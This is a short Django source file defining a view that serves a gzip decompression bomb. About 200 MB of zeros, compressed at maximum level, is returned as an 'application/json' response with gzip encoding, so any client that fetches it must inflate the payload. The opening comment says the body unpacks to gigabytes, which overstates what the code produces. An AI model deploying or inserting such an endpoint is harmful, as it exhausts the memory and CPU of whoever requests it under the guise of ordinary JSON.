# Answers with a small body that unpacks to gigabytes.
import zlib
from django.http import HttpResponse
bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
body = []
def double(request):
    if not body:
        body.append(b"".join(bomb.compress(bytes(10_000_000)) for _ in range(20)) + bomb.flush())
    return HttpResponse(body[0], headers={"Content-Encoding": "gzip"}, content_type="application/json")
